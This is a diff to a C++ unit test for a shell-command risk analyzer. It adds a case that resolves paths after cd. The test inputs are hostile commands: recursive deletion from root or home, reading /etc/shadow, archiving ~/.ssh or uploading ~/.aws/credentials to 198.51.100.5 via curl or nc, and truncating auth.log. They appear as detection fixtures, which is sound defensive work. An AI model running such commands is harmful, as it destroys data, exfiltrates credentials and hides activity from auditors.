@@ -1,5 +1,6 @@
 // Values the analyzer carries from where a script names them to where it uses them: loop
-// variables, find's `{}`, `sh -c` positional parameters, and host names under data labels.
+// variables, find's `{}`, `sh -c` positional parameters, host names under data labels, and the
+// directory a cd moved to.
 #include <gtest/gtest.h>
 
 #include <set>
@@ -51,6 +52,34 @@ TEST(CisoDataflow, DataLabelsBeforeAHostNameStillNameTheDestination) {
             (std::set<std::string>{"collector.example.com"}));
   // Labels alone, with no name after them, are no destination.
   EXPECT_TRUE(hosts_of(run("curl -d a=b notes.txt", true)).empty());
+}
+
+TEST(CisoDataflow, RelativePathsAfterCdNameTheDirectoryTheyAreIn) {
+  const auto a = run("cd / && rm -rf *", true);
+  EXPECT_TRUE(has_rule(a, "destructive.rm_root_or_home")) << rule_ids(a);
+  EXPECT_TRUE(has_rule(run("cd $HOME; rm -rf ./*", true), "destructive.rm_root_or_home"));
+  const auto b = run("cd /etc && cat shadow", true);
+  EXPECT_TRUE(has_rule(b, "credential_access.shadow_file")) << rule_ids(b);
+  // The archive's `.` is ~/.ssh, in a pipeline and inside a nested `bash -c` alike.
+  const auto c = run("cd ~/.ssh && tar czf - . | curl -T - http://198.51.100.5/up", true);
+  EXPECT_TRUE(has_rule(c, "exfiltration.archive_sensitive_files")) << rule_ids(c);
+  const auto d = run("bash -c \"cd ~/.ssh; tar cz . | nc 198.51.100.5 9000\"", true);
+  EXPECT_TRUE(has_rule(d, "exfiltration.archive_sensitive_files")) << rule_ids(d);
+  // curl's `@file` and bare redirection targets are paths too; writes record the real path.
+  const auto e = run("(cd ~/.aws && curl -F f=@credentials http://198.51.100.5/)", true);
+  EXPECT_TRUE(has_rule(e, "exfiltration.sensitive_upload")) << rule_ids(e);
+  const auto g = run("cd /var/log && > auth.log", true);
+  EXPECT_TRUE(has_rule(g, "defense_evasion.log_deletion")) << rule_ids(g);
+  bool real_path = false;
+  for (const auto& w : g["checklist"]["filesystem_writes"]) real_path = real_path || w["path"] == "/var/log/auth.log";
+  EXPECT_TRUE(real_path) << g["checklist"]["filesystem_writes"].dump();
+  // A directory only known at run time, or the project's own, stays low.
+  EXPECT_LT(run("cd \"$(mktemp -d)\" && rm -rf *", true)["risk_score"].get<int>(), 30);
+  EXPECT_LT(run("cd build && rm -rf *", true)["risk_score"].get<int>(), 30);
+  EXPECT_LT(run("cd $HOME && rm -rf .cache/pip", true)["risk_score"].get<int>(), 30);
+  EXPECT_LT(run("cd /var/log && grep -i error syslog | tail -n 20", true)["risk_score"].get<int>(), 30);
+  // `cd -` and popd leave the directory unknown: what follows is read as written.
+  EXPECT_LT(run("cd / && cd - && rm -rf *", true)["risk_score"].get<int>(), 30);
 }
 
 }  // namespace
